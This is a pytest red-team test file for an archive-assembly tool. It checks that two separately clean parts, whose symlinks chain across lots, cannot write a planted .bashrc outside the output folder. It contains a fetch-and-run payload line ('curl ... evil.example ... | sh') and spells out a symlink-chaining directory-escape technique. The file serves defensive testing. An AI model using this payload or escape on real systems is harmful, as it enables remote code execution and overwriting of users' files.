"""Fourth red team (independent): `itera-verify assemble` as two hostile parts of one campaign would attack it.

Each part alone is clean: its links stay inside its own folder and resolve there, its audit passes. Joined, a link
of one part runs through a link of the other: lot A holds `d/e/f/up -> ../../..` (its own top folder), lot B holds
`lnk -> d/e/f/up/../../..` (in B, where d/e/f/up is a real folder, its own d/). In the assembled tree `lnk` leaves
DIR by three levels, and lot A's file `lnk/<name>` is moved through it (flows/assemble.py `_build`, os.rename).
A part whose folders are all listed is refused by IV615 (a folder in one part, a link in the other); a sender
leaves the folder members out (the audit requires none: SHA256SUMS lists files)."""
from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from itera_verify import settle
from itera_verify.flows.assemble import assemble
from tests.helpers import run_cli
from tests.lots import record_lot, seal_part
from tests.redteam4_forms import rewrite

PAYLOAD = b"curl -s https://evil.example/x | sh  # planted by a part\n"


def build_parts(folder: Path, planted: str, *, drop_folders: bool) -> list[Path]:
    """Lot A's and lot B's parts, sealed by the tool from packages that carry the two links and lot A's
    `lnk/<planted>`; with `drop_folders`, the folder members that would betray the join are left out."""
    a = record_lot(folder / "lot-a", "lot-a", extra_files={f"lnk/{planted}": PAYLOAD})
    (a / "d/e/f").mkdir(parents=True)
    os.symlink("../../..", a / "d/e/f/up")
    b = record_lot(folder / "lot-b", "lot-b", extra_files={"d/e/f/up/keep": b"keep\n"})
    os.symlink("d/e/f/up/../../..", b / "lnk")
    parts = [seal_part(a, folder / "parts"), seal_part(b, folder / "parts")]
    if drop_folders:
        for part, folder_member in zip(parts, ("lnk", "d/e/f/up")):
            rewrite(part, lambda listed, gone=folder_member: [m for m in listed if not (m.kind == "directory"
                                                                                        and m.name == gone)])
    return parts


@pytest.fixture(scope="module")
def hostile_parts(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("redteam4-parts")
    build_parts(folder, ".bashrc", drop_folders=True)
    return folder / "parts"


def private(parts: Path, tmp_path: Path) -> list[Path]:
    out = tmp_path / "parts"
    shutil.copytree(parts, out)
    return sorted(out.glob("*.part.tar.zst"))


def test_each_hostile_part_audits_clean_alone(hostile_parts, tmp_path):
    """What makes the join dangerous is invisible part by part: each audit passes."""
    for part in private(hostile_parts, tmp_path):
        result = run_cli("audit", part, "--format", "json", timeout=300)
        assert result.returncode == 0, result.stdout[-2000:]


def test_two_parts_whose_links_chain_across_lots_write_nothing_outside_DIR(hostile_parts, tmp_path):
    review = tmp_path / "review"
    review.mkdir()
    result = run_cli("assemble", *private(hostile_parts, tmp_path), "-o", review / "out", timeout=300)
    assert not (review / ".bashrc").exists(), f"written beside DIR (exit {result.returncode}): " \
                                              f"{(review / '.bashrc').read_bytes()!r}"
    assert result.returncode != 0


def test_two_parts_whose_links_chain_across_lots_replace_no_existing_file(hostile_parts, tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_bytes(b"# the reviewer's own\n")
    assembly = assemble([str(p) for p in private(hostile_parts, tmp_path)], home / "out", settle(reviewer=True))
    assert (home / ".bashrc").read_bytes() == b"# the reviewer's own\n"
    assert assembly.verdict == "fail"


def test_the_same_links_with_every_folder_listed_are_IV615_and_write_nothing(tmp_path):
    """The refusal the attack above steps around: with its folder members, the join is IV615 (a folder in one
    part, a link in the other), and nothing is written."""
    parts = build_parts(tmp_path / "machines", ".bashrc", drop_folders=False)
    review = tmp_path / "review"
    review.mkdir()
    assembly = assemble([str(p) for p in parts], review / "out", settle(reviewer=True))
    assert assembly.verdict == "fail" and "IV615" in {f.code for f in assembly.findings}
    assert sorted(os.listdir(review)) == []
